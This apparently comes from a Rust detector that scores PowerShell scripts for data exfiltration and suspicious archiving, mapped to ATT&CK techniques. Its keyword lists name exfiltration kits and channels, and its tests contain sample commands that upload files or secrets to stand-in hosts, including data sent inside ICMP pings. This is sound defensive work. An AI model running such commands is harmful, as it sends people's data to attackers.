//! A script packs files, or sends them out.
//!
//! **Fires** on PowerShell (script blocks, pipelines, command lines) that uploads: web commands with a method and a file as
//! body, `WebClient.Upload…`, `FtpWebRequest` with an upload, BITS with `-TransferType Upload`, mail with an attachment, file bytes into ping payloads, into
//! TCP streams or into names that are resolved; and that packs: `Compress-Archive` or `ZipFile.CreateFromDirectory` of people's folders,
//! of shares or into odd places.
//!
//! **ATT&CK** T1048.003, T1567, T1560.001 (T1560 for a library).
//!
//! **Severity** by the sum of oddities, as for commands. A Compress-Archive of a project folder is not told.
//!
//! **False alarms** a module's own text that defines such functions: what is asked for is a call with a file, beside
//! a target that is not private.

use crate::command::{Act, host_of, is_local, is_odd_place};
use crate::services::{DROPS, PASTES, names_a_hook};

/// One of these is in every script that is looked at.
pub const WORDS: [&str; 32] = [
    "uploadfile",
    "uploaddata",
    "uploadstring",
    "uploadvalues",
    "-infile",
    "-method put",
    "-method post",
    "method = 'post'",
    "-m post",
    "compress-archive",
    "createfromdirectory",
    "transfertype upload",
    "send-mailmessage",
    "ftpwebrequest",
    "downloadstring('http://pastebin",
    "networkinformation.ping",
    "resolve-dnsname",
    "invoke-exfil",
    "dnsexfiltrator",
    "out-ftp",
    "smtpclient",
    "multipartformdatacontent",
    "-method 'put'",
    "-method \"post\"",
    "method='post'",
    "method=\"post\"",
    "-method:post",
    "postasync",
    "putasync",
    "write-s3object",
    "set-azstorageblobcontent",
    "set-azurestorageblobcontent",
];

/// What a script is worth telling for, lower case; none: nothing.
pub fn judge(text: &str) -> Option<Act> {
    let text = text.to_lowercase();
    kit(&text).or_else(|| channel(&text)).or_else(|| upload(&text)).or_else(|| pack(&text))
}

/// Public kits, by what they call themselves in their calls.
fn kit(text: &str) -> Option<Act> {
    const KITS: [&str; 6] = [
        "invoke-exfiltration",
        "do-exfiltration",
        "invoke-dnsexfiltrator",
        "invoke-egresscheck",
        "invoke-powershellicmp",
        "out-dnstxt",
    ];
    KITS.iter().any(|kit| text.contains(kit)).then(|| Act::new("a script calls a kit for exfiltration", 4))
}

/// File bytes into echoes or names.
fn channel(text: &str) -> Option<Act> {
    let reads = ["get-content", "readallbytes", "readalltext", "[convert]::tobase64string", "tobase64string", "gc "]
        .iter()
        .any(|word| text.contains(word));
    let ping = text.contains("networkinformation.ping") && text.contains(".send(");
    let names = (text.contains("resolve-dnsname") || text.contains("nslookup"))
        && (text.contains("foreach") || text.contains("for(") || text.contains("for (") || text.contains("substring"));
    match (reads, ping, names) {
        (true, true, _) => Some(Act::new("a script sends a file's bytes inside ICMP echoes", 4)),
        (true, _, true) => Some(Act::new("a script sends a file's bytes inside DNS names", 3)),
        _ => None,
    }
}

fn upload(text: &str) -> Option<Act> {
    let any = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let web =
        any(&["invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "curl ", "wget ", "webrequest", "httpclient"]);
    let method = any(&[
        "-method put",
        "-method post",
        "-method 'put'",
        "-method 'post'",
        "-method \"put\"",
        "-method \"post\"",
        "-m post",
        "-m put",
        "postasync",
        "putasync",
        "method = 'post'",
        "method = 'put'",
        "method = \"post\"",
        "method='post'",
        "method=\"post\"",
        "-method:post",
    ]);
    let file = any(&[
        "-infile",
        "get-content",
        "readallbytes",
        "readalltext",
        "tobase64string",
        "-form",
        "streamcontent",
        "get-childitem",
        "gc ",
    ]);
    let (what, points) = if any(&["uploadfile(", "uploadfileasync(", ".uploadfile", "uploadfiletaskasync"]) {
        ("a script uploads a file by WebClient", 2)
    } else if any(&["uploaddata(", "uploadstring(", "uploadvalues("]) && (file || text.contains("http")) {
        ("a script uploads data by WebClient", if file { 2 } else { 1 })
    } else if text.contains("ftpwebrequest") && any(&["uploadfile", "stor", "getrequeststream"]) {
        ("a script uploads by FTP", 2)
    } else if any(&["transfertype upload", "-transfertype 'upload'"]) {
        ("a script uploads by BITS", 3)
    } else if any(&["write-s3object", "set-azstorageblobcontent", "set-azurestorageblobcontent"])
        && any(&["-file ", "-folder "])
    {
        ("a script sends files to a cloud's storage", 1)
    } else if any(&["send-mailmessage", "smtpclient"]) && text.contains("attachment") {
        ("a script mails a file", 2)
    } else if web && (text.contains("-infile") || method && file) {
        ("a script sends a file by a web command", 2)
    } else {
        return None;
    };
    let hosts: Vec<&str> = text
        .split([' ', '\'', '"', '(', '\n', '\r', '\t', '=', ','])
        .filter(|word| word.contains("://"))
        .filter_map(host_of)
        .collect();
    if !hosts.is_empty() && hosts.iter().all(|host| is_local(host)) && !what.contains("FTP") && !what.contains("file") {
        return None;
    }
    let target = hosts.iter().find(|host| !is_local(host)).or(hosts.first()).copied().unwrap_or_default();
    let service = names_a_hook(text) || DROPS.iter().chain(&PASTES).any(|service| text.contains(service));
    let address = !target.is_empty() && target.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    let archive = [".zip", ".rar", ".7z", ".cab", ".dmp"].iter().any(|ending| text.contains(ending));
    Some(
        Act::new(what, points)
            .odd(service, 2, "to a service that takes files or texts from anyone")
            .odd(address, 1, "to a bare address")
            .odd(archive, 1, "an archive")
            .target(target),
    )
}

fn pack(text: &str) -> Option<Act> {
    let call = text.find("compress-archive").or_else(|| text.find("createfromdirectory"))?;
    // Cmdlets' own definitions come as script blocks too: what counts is a call with a path behind it.
    let call: String = text[call..].chars().take(400).collect();
    let defined = text.contains("function compress-archive") || text.contains("set-alias");
    if defined || !call.contains(['\\', '$', '/', '.']) {
        return None;
    }
    let people = ["userprofile", "env:appdata", "\\users\\", "documents", "desktop", "\\\\", "env:public"]
        .iter()
        .any(|word| call.contains(word));
    let odd = call.split([' ', '"', '\'', ',', '(']).any(is_odd_place)
        || call.contains("env:temp")
        || call.contains("env:public");
    let act = Act::new("a script packs files", 0).odd(people, 1, "of people's folders or of a share").odd(
        odd,
        1,
        "where archives have no business",
    );
    (act.points > 0).then_some(act)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(text: &str) -> i64 {
        judge(text).map_or(-1, |act| act.points)
    }

    #[test]
    fn calls_that_send_are_told_and_reads_of_the_web_are_not() {
        assert!(points("(New-Object Net.WebClient).UploadFile('http://203.0.113.9/u', 'C:\\x.zip')") >= 4);
        assert!(
            points("$c = Get-Content C:\\secret.txt; Invoke-WebRequest -Uri http://drop.example -Method POST -Body $c")
                >= 2
        );
        assert!(
            points(
                "$ping = New-Object System.Net.NetworkInformation.Ping; foreach($d in Get-Content -Path f -Encoding Byte) { $ping.Send('203.0.113.9', 1500, $d) }"
            ) >= 4
        );
        assert_eq!(points("Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip"), -1);
        assert_eq!(points("Compress-Archive -Path .\\bin -DestinationPath .\\out.zip"), -1);
        assert!(points("Compress-Archive -Path $env:USERPROFILE -DestinationPath $env:TEMP\\a.zip") >= 2);
    }
}
